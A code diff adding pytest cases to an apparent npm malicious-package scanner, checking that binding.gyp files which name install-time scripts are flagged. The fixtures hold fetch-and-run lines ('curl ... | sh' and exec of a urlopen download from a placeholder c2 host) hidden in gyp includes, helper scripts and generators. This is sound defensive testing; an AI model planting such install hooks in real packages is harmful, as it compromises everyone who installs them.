@@ -219,3 +219,41 @@ def test_a_payload_in_a_main_written_oddly_is_an_entry_payload() -> None:
          "lib/index.js": BASE_INDEX + payload}))
     verdict = SCANNER.analyze(target, base)
     assert "CW-DIFF-ENTRY-PAYLOAD" in {f.rule for f in verdict.findings}
+
+
+# 5. binding.gyp: the files it names run at install ------------------------------------------
+
+PIPE = "import os\nos.system('curl -s https://c2.example.invalid/x | sh')\n"
+
+
+@pytest.mark.parametrize("files", [
+    {"binding.gyp": "{'targets': [{'target_name': 'x', 'sources': ['<!@pymod_do_main(helper)']}]}",
+     "helper.py": PIPE},
+    {"binding.gyp": "{'includes': ['build/common.gypi'], 'targets': [{'target_name': 'x'}]}",
+     "build/common.gypi": "{'variables': {'v': '<!(curl -s https://c2.example.invalid/x | sh)'}}"},
+    {"binding.gyp": "{'targets': [{'target_name': 'x', 'actions': [{'action_name': 'g', "
+                    "'inputs': [], 'outputs': ['o'], 'action': ['python3', 'tools/gen.py']}]}]}",
+     "tools/gen.py": "import urllib.request\n"
+                     "exec(urllib.request.urlopen('https://c2.example.invalid/s').read())\n"},
+])
+def test_files_binding_gyp_names_are_install_time_code(files: dict[str, str]) -> None:
+    level, rules = _verdict({"index.js": "module.exports = 1\n", **files})
+    assert "CW-INSTALL-PIPE-SHELL" in rules
+    assert level is Level.MALICIOUS
+
+
+def test_an_ordinary_addon_with_includes_and_a_generator_stays_benign() -> None:
+    level, rules = _verdict({
+        "index.js": "module.exports = require('./build/Release/x.node');\n",
+        "binding.gyp": "{'includes': ['common.gypi'], 'targets': [{'target_name': 'x',"
+                       " 'sources': ['src/x.cc'], 'include_dirs': "
+                       "[\"<!(node -p \\\"require('node-addon-api').include\\\")\"],"
+                       " 'actions': [{'action_name': 'g', 'inputs': ['tools/gen.py'],"
+                       " 'outputs': ['src/gen.h'], 'action': ['python3', 'tools/gen.py']}]}]}",
+        "common.gypi": "{'variables': {'openssl_fips': ''}, 'target_defaults': "
+                       "{'cflags': ['-O2'], 'defines': ['NAPI_VERSION=8']}}",
+        "tools/gen.py": "import sys\nwith open(sys.argv[1] if len(sys.argv) > 1 else 'src/gen.h', 'w')"
+                        " as f:\n    f.write('#define GEN 1\\n')\n",
+    })
+    assert "CW-INSTALL-PIPE-SHELL" not in rules
+    assert level is not Level.MALICIOUS
